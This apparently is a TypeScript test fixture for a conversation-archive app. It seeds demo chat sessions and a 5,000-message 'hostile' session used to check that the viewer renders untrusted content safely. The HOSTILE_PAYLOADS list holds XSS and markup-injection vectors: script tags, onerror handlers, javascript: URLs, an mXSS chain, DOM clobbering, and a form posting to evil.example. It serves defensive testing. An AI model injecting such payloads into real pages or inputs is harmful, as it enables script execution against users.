import { join } from 'node:path'
import { openDatabase, replaceSessions, type MessageInput, type SessionInput } from '../../../src/db'

const HOUR = 3_600_000
/** A fixed "now" for the demo data, so screenshots do not drift. */
const BASE = Date.parse('2026-01-08T12:00:00Z')

const workspace = (provider: string, name: string) => ({ provider, key: `/home/dev/${name}`, name, path: `/home/dev/${name}` })

const message = (id: string, role: MessageInput['role'], content: string, at: number, extra: Partial<MessageInput> = {}): MessageInput => ({
  id,
  role,
  content,
  timestamp: at,
  model: role === 'assistant' ? 'claude-sonnet-4-5' : null,
  ...extra,
})

/** A few realistic conversations across assistants: Markdown, code, tool calls, RTL and CJK. */
export function demoSessions(): SessionInput[] {
  const t = BASE - 2 * HOUR
  return [
    {
      id: 'demo-auth',
      provider: 'claude-code',
      origin: 'harvest',
      title: 'Fix the token refresh race in the auth middleware',
      model: 'claude-sonnet-4-5',
      created: t,
      updated: t + 40 * 60_000,
      workspace: workspace('claude-code', 'billing-api'),
      messages: [
        message('a1', 'user', 'Users get logged out at random. I think two requests **refresh the token at once**. Can you look at `src/auth/refresh.ts`?', t),
        message(
          'a2',
          'assistant',
          'Two concurrent requests both see an expired token and both call the refresh endpoint; the second refresh invalidates the first token.\n\nThe fix: share one in-flight refresh.\n\n```ts\nlet pending: Promise<Token> | null = null\n\nexport function refresh(): Promise<Token> {\n  pending ??= fetchToken().finally(() => (pending = null))\n  return pending\n}\n```\n\n| before | after |\n|---|---|\n| 2 refresh calls | 1 refresh call |',
          t + 60_000,
          {
            toolInvocations: [
              { id: 'c1', name: 'Read', input: { file_path: 'src/auth/refresh.ts' }, output: 'export async function refresh() {\n  return fetchToken()\n}', status: 'completed' },
              { id: 'c2', name: 'Edit', input: { file_path: 'src/auth/refresh.ts', old_string: 'return fetchToken()', new_string: 'pending ??= fetchToken()' }, output: 'The file was updated.', status: 'completed' },
            ],
          },
        ),
        message('a3', 'user', 'Run the tests please.', t + 5 * 60_000),
        message('a4', 'assistant', 'All 214 tests pass:\n\n```bash\n$ bun test\n 214 pass\n 0 fail\n```', t + 6 * 60_000, {
          toolInvocations: [{ id: 'c3', name: 'Bash', input: { command: 'bun test' }, output: '214 pass\n0 fail', status: 'completed' }],
        }),
      ],
    },
    {
      id: 'demo-i18n',
      provider: 'copilot',
      origin: 'harvest',
      title: 'ترجمة واجهة المستخدم · 用户界面翻译',
      model: 'gpt-4o',
      created: t - 26 * HOUR,
      updated: t - 25 * HOUR,
      workspace: workspace('copilot', 'storefront'),
      messages: [
        message('i1', 'user', 'Translate the checkout button into Arabic and Chinese.', t - 26 * HOUR),
        message('i2', 'assistant', 'Arabic (right to left):\n\nإتمام الشراء\n\nChinese:\n\n结账\n\n```json\n{ "ar": "إتمام الشراء", "zh": "结账" }\n```', t - 26 * HOUR + 30_000, { model: 'gpt-4o' }),
      ],
    },
    {
      id: 'demo-python',
      provider: 'codex',
      origin: 'harvest',
      title: 'Speed up the CSV import',
      model: 'gpt-5-codex',
      created: t - 50 * HOUR,
      updated: t - 49 * HOUR,
      workspace: workspace('codex', 'data-pipeline'),
      messages: [
        message('p1', 'user', 'The import takes 40 s for 1M rows.', t - 50 * HOUR),
        message('p2', 'assistant', 'Read in chunks and insert in one transaction:\n\n```python\nwith conn:\n    for chunk in pd.read_csv(path, chunksize=50_000):\n        chunk.to_sql("rows", conn, if_exists="append")\n```', t - 50 * HOUR + 20_000, { model: 'gpt-5-codex' }),
      ],
    },
    {
      id: 'demo-gemini',
      provider: 'gemini-cli',
      origin: 'harvest',
      title: 'Explain the release workflow',
      model: 'gemini-2.5-pro',
      created: t - 80 * HOUR,
      updated: t - 79 * HOUR,
      workspace: workspace('gemini-cli', 'storefront'),
      messages: [
        message('g1', 'user', 'What does `.github/workflows/release.yml` do?', t - 80 * HOUR),
        message('g2', 'assistant', 'It builds on every tag:\n\n1. checks out the tag\n2. runs `bun run build:all`\n3. uploads the archives and `SHA256SUMS`', t - 80 * HOUR + 10_000, { model: 'gemini-2.5-pro' }),
      ],
    },
  ]
}

/** Markup and payloads a hostile file could put in a conversation; each would set the title or open a dialog if it ran. */
export const HOSTILE_PAYLOADS = [
  '<script>alert("script")</script>',
  '<img src=x onerror="alert(\'img\')">',
  '[click me](javascript:alert("link"))',
  '[data](data:text/html,<script>alert("data")</script>)',
  '<a href="javascript:alert(\'anchor\')">anchor</a>',
  '<iframe src="javascript:alert(\'iframe\')"></iframe><iframe srcdoc="<script>alert(\'srcdoc\')</script>"></iframe>',
  '<svg onload="alert(\'svg\')"><script>alert("svg script")</script></svg>',
  '![pixel](https://tracker.example/pixel.png) ![js](javascript:alert("image"))',
  '<style>body { display: none }</style><div style="position:fixed;inset:0;background:red">covered</div>',
  '<form action="https://evil.example"><input name=q><button>Send</button></form>',
  '<object data="javascript:alert(\'object\')"></object><embed src="javascript:alert(\'embed\')">',
  '<details open ontoggle="alert(\'toggle\')">x</details><math><mtext><table><mglyph><style><img src=x onerror=alert("mxss")>',
  '```brainfuck-9000\n<script>alert("code")</script> ++++[>++++<-]>.\n```',
  '<div id="m-h1">clobber</div><a id="search-input" name="search-input">clobber</a>',
]

/** An id for the hostile messages, in order. */
export const hostileId = (i: number) => `h${i}`

/** The hostile session: every payload, RTL and CJK text, a 1 MB single line, 5,000 messages in all. */
export function hostileSession(): SessionInput {
  const t = BASE - HOUR
  const messages: MessageInput[] = []
  const total = 5000
  // Spread the hostile messages through the session so the list draws them in different places.
  const at = new Map(HOSTILE_PAYLOADS.map((payload, i) => [Math.floor((i * total) / HOSTILE_PAYLOADS.length) + 1, { id: hostileId(i), payload }]))
  for (let i = 0; i < total; i++) {
    const hostile = at.get(i)
    const time = t + i * 1000
    if (hostile) {
      messages.push(message(hostile.id, i % 2 ? 'assistant' : 'user', `Payload ${hostile.id}:\n\n${hostile.payload}`, time, {
        model: '<img src=x onerror=alert("model")>',
        toolInvocations: i % 2
          ? [{ id: `tool-${hostile.id}`, name: '<script>alert("tool")</script>', input: { html: hostile.payload }, output: hostile.payload, status: '<b>done</b>' }]
          : [],
      }))
    } else if (i === 2500) {
      messages.push(message('huge', 'assistant', 'x'.repeat(1024 * 1024), time))
    } else if (i === 3000) {
      messages.push(message('rtl', 'user', 'مرحبا بالعالم، هذا نص عربي طويل يمتد من اليمين إلى اليسار. שלום עולם, זה טקסט בעברית.', time))
    } else if (i === 3001) {
      messages.push(message('cjk', 'assistant', '你好，世界。これは日本語の文章です。한국어 문장도 있습니다。'.repeat(40), time))
    } else if (i === 3002) {
      messages.push(message('long-word', 'user', `unbroken${'A'.repeat(5000)}`, time))
    } else {
      messages.push(message(`n${i}`, i % 2 ? 'assistant' : 'user', i % 2 ? `Answer ${i}: the **value** is \`${i * 7}\`.` : `Question ${i}: what is ${i} × 7?`, time))
    }
  }
  return {
    id: 'hostile',
    provider: 'claude-code',
    origin: 'harvest',
    title: '<script>alert("title")</script><img src=x onerror=alert("title img")>',
    model: 'claude-sonnet-4-5',
    created: t,
    updated: t + total * 1000,
    workspace: workspace('claude-code', '<b>ws</b>'),
    messages,
  }
}

/** Writes sessions into a new chasm database at `dir/chasm.db` through the product's insert path; returns its path. */
export function seedDatabase(dir: string, sessions: SessionInput[]): string {
  const path = join(dir, 'chasm.db')
  const chasm = openDatabase(path)
  try {
    replaceSessions(chasm.sqlite, sessions)
  } finally {
    chasm.close()
  }
  return path
}
